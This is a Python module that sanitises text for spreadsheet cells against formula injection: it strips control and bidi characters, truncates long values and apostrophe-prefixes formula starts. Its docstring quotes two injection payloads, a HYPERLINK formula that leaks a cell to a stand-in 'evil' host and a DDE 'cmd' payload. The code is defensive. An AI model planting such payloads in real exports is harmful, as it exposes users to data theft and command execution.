"""Text from the input made safe for a spreadsheet cell: the one place xlsx and csv neutralise values.

A partner name such as `=HYPERLINK("http://evil/?"&A1)` or `@SUM(1+1)*cmd|' /C calc'!A0` is a
formula when a spreadsheet reads it from a CSV file, or when someone edits its cell and presses
Enter. Every string written to a cell goes through `cell_text`, which

- drops the characters an xlsx file cannot hold (openpyxl's `ILLEGAL_CHARACTERS_RE`: the C0
  controls but tab, line feed and carriage return; U+FFFE, U+FFFF, lone surrogates), and those
  that make text show in another order or act on a screen (DEL, C1 controls, bidi overrides
  and isolates, see `core/text.py`);
- shortens a value to the 32,767 characters an Excel cell holds (the beginning, an ellipsis, the end);
- reports whether the result would start a formula (`=`, `+`, `-`, `@`, tab, carriage return), so
  that xlsx stores it as text with Excel's quote prefix and csv writes it behind an apostrophe.
"""

from __future__ import annotations

import re

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from nofakes.core.text import ELLIPSIS, UNSAFE_BEYOND_C0

CELL_CHARS = 32_767  # the most characters an Excel cell holds
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# XML cannot hold U+FFFE, U+FFFF or a lone surrogate (which a JSON input can spell as "\ud800")
_UNSAFE = re.compile(f"{ILLEGAL_CHARACTERS_RE.pattern}|[{UNSAFE_BEYOND_C0}\ud800-\udfff\ufffe\uffff]")


def cell_text(value: str) -> str:
    """`value` without the characters a cell cannot hold or should not show, at most `CELL_CHARS` long."""
    if not value.isprintable():  # the common case (plain text) costs one check
        value = _UNSAFE.sub("", value)
    if len(value) > CELL_CHARS:
        back = (CELL_CHARS - 1) // 2
        value = value[: CELL_CHARS - 1 - back] + ELLIPSIS + value[-back:]
    return value


def starts_formula(text: str) -> bool:
    """Would a spreadsheet read `text` (already through `cell_text`) as a formula?"""
    return text.startswith(FORMULA_STARTS)


def csv_text(value: str) -> str:
    """A CSV field: `cell_text`, behind an apostrophe when it would start a formula (OWASP's advice;
    Excel and LibreOffice then show the text as it is, with the apostrophe in the cell)."""
    text = cell_text(value)
    return "'" + text if starts_formula(text) else text
